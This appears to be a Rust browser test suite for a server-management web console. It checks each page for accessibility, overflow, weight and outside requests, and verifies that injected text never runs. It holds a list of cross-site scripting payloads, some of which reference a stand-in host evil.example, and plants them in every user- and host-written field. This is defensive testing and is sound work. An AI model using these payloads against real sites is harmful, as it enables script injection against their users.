//! Every page, looked at: in light and dark, on a phone and a wide screen; by a checker of accessibility; with hostile texts
//! everywhere; and nothing is asked of any other place, loaded in excess, or run.

use std::fmt::Write as _;

use evenkeel_hub::store::PersonRole;
use serde_json::{Value, json};

use super::stage::{HOST_SEED, Stage, item, told, troubled};
use evenkeel_testkit::browser::{Browser, Look, axe};

/// The most that a page and all it loads may weigh.
const PAGE_BYTES_MAX: u64 = 150 * 1024;

const LOOKS: [Look; 4] = [
    Look { name: "light", width: 1280, height: 1000, is_dark: false },
    Look { name: "dark", width: 1280, height: 1000, is_dark: true },
    Look { name: "phone", width: 375, height: 1400, is_dark: false },
    Look { name: "wide", width: 2560, height: 1300, is_dark: true },
];

/// What hostile hosts, guests and people write.
const PAYLOADS: [&str; 12] = [
    "<script>window.ran=1</script>",
    "\"><script>window.ran=1</script>",
    "<img src=x onerror=window.ran=1>",
    "'\"><svg onload=window.ran=1>",
    "</textarea><script>window.ran=1</script>",
    "</title><script>window.ran=1</script>",
    "javascript:window.ran=1",
    "\" autofocus onfocus=window.ran=1 x=\"",
    "' hx-on:load='window.ran=1' hx-get='//evil.example/",
    "<a href=javascript:window.ran=1>x</a><iframe srcdoc='<script>parent.ran=1</script>'>",
    "{{constructor.constructor('window.ran=1')()}}",
    "\u{202e}<!--<style>@import url(//evil.example/x.css);*{display:none}</style>-->",
];

async fn furnished() -> (Stage, Vec<(&'static str, String)>) {
    let stage = Stage::new().await;
    stage.crowd(1_000).await;
    stage.host("pve1", HOST_SEED).await;
    let store = stage.running.hub.store();
    let labels = [("site".to_owned(), "berlin".to_owned()), ("tier".to_owned(), "prod".to_owned())];
    store.set_labels("pve1", labels.into(), "alice").await.unwrap();
    (stage, pages())
}

/// What hosts report and people did, after documents were pushed.
async fn reported(stage: &Stage) {
    stage.report("pve1", HOST_SEED, (1, 0), troubled()).await;
    let (pending, _) = told(&item("pve1", HOST_SEED, "billing"), HOST_SEED);
    stage.report("pve1", HOST_SEED, (2, 1), json!({"pending": [pending]})).await;
    stage.sql("INSERT INTO anchors (host, head, epoch, seq, sum, key_fingerprint, anchored_at) VALUES ('pve1', '', 2, 4711, '9f86d081884c7d65', '', 1700000000000)").await;
    stage.sql("INSERT INTO envelopes (id, host, cursor, kind, item, body, body_hash, submitted_by, submitted_at, expires_at, state, verdict, verdict_code, verdict_at) \
        VALUES ('env_00000000000000000000000000000000', 'pve1', 1000, 'approval', 'abcdef0123456789', '{}', '', 'alice', 1700000000000, 0, 'judged', '{\"code\":\"expired\",\"detail\":\"the window is over\"}', 'expired', 0)").await;
}

fn pages() -> Vec<(&'static str, String)> {
    let pages = [
        ("enter", "/console"),
        ("first-admin", "/first-admin"),
        ("fleet", "/console/fleet"),
        ("fleet-drifted", "/console/fleet?state=drifted&sort=state"),
        ("host", "/console/hosts/pve1"),
        ("guest", "/console/hosts/pve1/guests/lxc/101"),
        ("documents", "/console/hosts/pve1/documents"),
        ("document", "/console/hosts/pve1/documents/2"),
        ("edit", "/console/hosts/pve1/edit"),
        ("restore", "/console/hosts/pve1/documents/1/restore"),
        ("draft", "DRAFT"),
        ("approvals", "/console/approvals"),
        ("envelope", "/console/envelopes/env_00000000000000000000000000000000"),
        ("audit", "/console/audit"),
        ("accounts", "/console/accounts"),
        ("problem", "/console/hosts/nowhere"),
    ];
    pages.map(|(name, path)| (name, path.to_owned())).to_vec()
}

/// Two generations and a draft, made as a person makes them. Answers with the draft's page.
async fn write_documents(stage: &Stage, browser: &Browser, note: &str) -> String {
    let steps = [
        ("push", "0", "cores = 2", note),
        ("push", "1", "cores = 4\nmemory = \"1GiB\"", "more of both"),
        ("draft", "2", "cores = 8", note),
    ];
    let mut last = String::new();
    for (kept_as, seen, keys, message) in steps {
        browser.open(&stage.url("/console/hosts/pve1/edit")).await;
        let text = format!("[guest.101]\nkind = \"lxc\"\n{keys}\n# {note}\n");
        let body = format!(
            "const done = arguments[arguments.length - 1]; const body = new URLSearchParams({{csrf: document.querySelector('[name=csrf]').value, \
             as: {}, seen: {}, message: {}, 'name-0': 'web.toml', 'text-0': {}}});\
             fetch('/console/hosts/pve1/edit', {{method: 'POST', body}}).then((answer) => done(answer.status + ' ' + new URL(answer.url).pathname));",
            Value::from(kept_as),
            Value::from(seen),
            Value::from(message),
            Value::from(text)
        );
        let answer = browser.later(&body).await;
        answer.as_str().unwrap().clone_into(&mut last);
        assert!(last.starts_with("200 /console/hosts/pve1/d"), "{last}");
    }
    last.split_once(' ').unwrap().1.to_owned()
}

#[tokio::test(flavor = "multi_thread")]
async fn every_page_is_seen_by_everybody_and_asks_nothing_of_others() {
    let ((stage, mut pages), browser) = (furnished().await, Browser::start().await);
    let checker = axe();
    browser.open(&stage.link(&browser, "alice", (PersonRole::Admin, "*", 10)).await).await;
    browser.until("location.pathname === '/console/fleet'").await;
    let draft = write_documents(&stage, &browser, "web needs room").await;
    reported(&stage).await;
    pages.iter_mut().filter(|(_, path)| path == "DRAFT").for_each(|page| page.1.clone_from(&draft));
    browser.requests().await;
    browser.complaints().await;
    let mut found = String::new();
    for (name, path) in &pages {
        for look in LOOKS {
            browser.look(look).await;
            // Whoever is logged in is sent on from the entry at once.
            let address = if *name == "enter" { format!("{path}?") } else { path.clone() };
            if *name == "enter" {
                browser.command("Network.setBlockedURLs", json!({"urls": ["*console.js*"]})).await;
            }
            browser.open(&stage.url(&address)).await;
            if *name == "edit" {
                browser.sees("Valid: ").await;
            }
            if *name == "enter" {
                browser.command("Network.setBlockedURLs", json!({"urls": []})).await;
            }
            browser.picture(&format!("{name}-{}", look.name)).await;
            let wider =
                browser.script("return document.documentElement.scrollWidth - innerWidth").await;
            if wider.as_i64().unwrap() > 0 {
                let _ = writeln!(found, "{name} {}: {wider} px wider than the screen", look.name);
            }
            // A wide screen has nothing that others have not.
            let checked = if look.name == "wide" { "" } else { &checker };
            for finding in accessibility(&browser, checked).await {
                let _ = writeln!(found, "{name} {}: {finding}", look.name);
            }
        }
        let weight = browser.script(
            "return performance.getEntriesByType('resource').filter((each) => !each.name.includes('/v1/events'))\
             .reduce((sum, each) => sum + each.decodedBodySize, 0) + performance.getEntriesByType('navigation')[0].decodedBodySize",
        ).await;
        if weight.as_u64().unwrap() > PAGE_BYTES_MAX {
            let _ = writeln!(found, "{name} weighs {weight} bytes");
        }
    }
    for request in browser.requests().await {
        if !request.starts_with(&stage.running.url) {
            let _ = writeln!(found, "asked elsewhere: {request}");
        }
    }
    // The blocked script and pages that say no are meant.
    let meant = |text: &String| {
        ["ERR_BLOCKED_BY_CLIENT", "status of 404", "inspector"]
            .iter()
            .any(|word| text.contains(word))
    };
    for complaint in browser.complaints().await.iter().filter(|text| !meant(text)) {
        let _ = writeln!(found, "the browser: {complaint}");
    }
    assert!(found.is_empty(), "{found}");
}

/// Serious findings, each with where.
async fn accessibility(browser: &Browser, checker: &str) -> Vec<String> {
    if checker.is_empty() {
        return Vec::new();
    }
    let body = format!(
        "const done = arguments[arguments.length - 1]; if (!window.axe) {{ {checker} }}\n\
         window.axe.run(document, {{resultTypes: ['violations']}}).then((result) => done(result.violations\
         .filter((each) => each.impact === 'serious' || each.impact === 'critical')\
         .map((each) => each.id + ': ' + each.nodes.slice(0, 3).map((node) => node.target.join(' ') + ' ' + \
         node.any.map((any) => any.message).join('; ')).join(' | '))));"
    );
    let found = browser.later(&body).await;
    found.as_array().unwrap().iter().map(|text| text.as_str().unwrap().to_owned()).collect()
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_a_stranger_wrote_runs_on_any_page() {
    let ((stage, mut pages), browser) = (furnished().await, Browser::start().await);
    let all = PAYLOADS.join(" ");
    browser.open(&stage.link(&browser, "alice", (PersonRole::Admin, "*", 10)).await).await;
    browser.until("location.pathname === '/console/fleet'").await;
    let draft = write_documents(&stage, &browser, &all.replace('\n', " ")).await;
    pages.iter_mut().filter(|(_, path)| path == "DRAFT").for_each(|page| page.1.clone_from(&draft));
    reported(&stage).await;
    hostile(&stage, &all).await;
    pages.push(("found", "/console/fleet?state=refused".to_owned()));
    pages.push(("filtered", format!("/console/fleet?text={}", query(&all))));
    pages.push(("label", format!("/console/fleet?label={}", query(&format!("a={all}")))));
    pages.push(("audit of", format!("/console/audit?host={}&text={}", query(&all), query(&all))));
    browser.complaints().await;
    browser.requests().await;
    for (name, path) in &pages {
        browser.open(&stage.url(path)).await;
        tokio::time::sleep(std::time::Duration::from_millis(150)).await;
        let ran = browser.script("return window.ran === undefined").await;
        assert_eq!(ran, true, "something ran on {name}");
        let strange = browser.script(
            "return [...document.querySelectorAll('script:not([src^=\"/console/static/\"]), img, iframe, svg, object, embed, base, style, [autofocus], [onload], [onerror], [onfocus]')]\
             .map((each) => each.outerHTML.slice(0, 100)).concat([...document.querySelectorAll('*')].flatMap((each) => [...each.attributes]\
             .filter((attribute) => /^hx-on|^on/.test(attribute.name) || /^\\s*javascript:/i.test(attribute.value) && attribute.name !== 'value').map((attribute) => attribute.name + '=' + attribute.value)))",
        ).await;
        assert_eq!(strange, json!([]), "{name}");
        if ["host", "guest", "approvals", "audit", "documents", "found"].contains(name) {
            let text = browser.text().await;
            assert!(text.contains("onerror=window.ran=1"), "{name} shows nothing of it: {text}");
        }
    }
    for request in browser.requests().await {
        assert!(request.starts_with(&stage.running.url), "asked elsewhere: {request}");
    }
    let refused: Vec<String> = browser.complaints().await;
    let by_policy = refused.iter().filter(|text| text.contains("Content Security Policy")).count();
    assert_eq!(by_policy, 0, "escaping left something for the policy: {refused:?}");
}

/// Every text of every kind that a host or a person can write, hostile.
async fn hostile(stage: &Stage, all: &str) {
    let store = stage.running.hub.store();
    store
        .set_labels("pve1", [(all.replace(['=', ','], ""), all.replace(',', ""))].into(), "alice")
        .await
        .unwrap();
    store.audit(all, all, all, all).await.unwrap();
    let (pending, _) = told(&item("pve1", HOST_SEED, all), HOST_SEED);
    let texts = |key: &str| json!({key: all});
    stage.report("pve1", HOST_SEED, (3, 2), json!({
        "generation": {"number": 1, "signer": all},
        "refused": {"generation": 2, "code": all, "why": all, "next": all, "diagnostics": [all]},
        "agent": {"version": all, "node": all, "since": all, "frozen": all, "mode": all, "policy": texts(all), "troubles": [all]},
        "pass": {"at": all},
        "guests": [
            {"guest": "lxc/101", "name": all, "state": all, "differences": [{"key": all, "declared": all, "actual": all, "origin": {"file": all, "line": 3, "layer": all}}],
             "power": all, "declared": {all: all}, "actual": {format!("{all}!"): all},
             "held": [{"code": all, "why": all, "next": all}], "problems": [all], "after_restart": [all]},
            {"guest": all, "name": all, "state": "held"},
        ],
        "ops": [{"op": all, "guest": "lxc/101", "kind": all, "state": all, "at": all, "reason": all, "outcome": all, "signer": all,
                 "changes": [{"key": all, "before": all, "after": all}]}],
        "decisions": [{"id": "d2", "at": all, "guest": "lxc/101", "op": all, "code": all, "detail": all, "signer": all, "event": all}],
        "pending": [pending],
        "at": all,
    })).await;
    stage.sql(&format!("UPDATE envelopes SET submitted_by = '{0}', kind = '{0}', item = '{0}', verdict = json_object('code', '{0}', 'detail', '{0}', 'op', '{0}')", all.replace('\'', "''"))).await;
}

fn query(text: &str) -> String {
    let mut encoded = String::new();
    for byte in text.bytes() {
        let _ = write!(encoded, "%{byte:02X}");
    }
    encoded
}
